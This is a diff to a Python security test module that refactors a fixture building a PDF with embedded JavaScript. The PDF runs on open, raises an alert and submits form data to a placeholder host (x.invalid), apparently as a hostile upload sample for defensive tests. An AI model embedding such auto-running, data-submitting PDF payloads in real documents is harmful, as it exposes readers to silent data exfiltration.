@@ -61,6 +61,7 @@ from tests.security.live_server import cookie_header, live_fixture  # noqa: F401
 from tests.vault.vault_support import (
     decrypt_with_age_cli,
     multipart_body,
+    pdf_from_objects,
     quoted,
     raw_blob,
     text_bytes,
@@ -106,26 +107,17 @@ def gif() -> bytes:
 
 
 def pdf_with_javascript() -> bytes:
-    objects = [
-        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript 5 0 R >> >>",
-        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
-        b"<< /S /JavaScript /JS (app.alert('opened'); this.submitForm('http://x.invalid/');) >>",
-        b"<< /Names [(run) 4 0 R] >>",
-    ]
-    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
-    offsets = []
-    for number, body in enumerate(objects, start=1):
-        offsets.append(len(out))
-        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
-    xref = len(out)
-    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
-    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
-    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
-        len(objects) + 1,
-        xref,
+    return pdf_from_objects(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript 5 0 R >> >>",
+            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
+            b"<< /S /JavaScript /JS (app.alert('opened'); "
+            b"this.submitForm('http://x.invalid/');) >>",
+            b"<< /Names [(run) 4 0 R] >>",
+        ],
+        version=b"1.7",
     )
-    return bytes(out)
 
 
 def jpeg_declaring(width: int, height: int, before_header: bytes = b"") -> bytes:
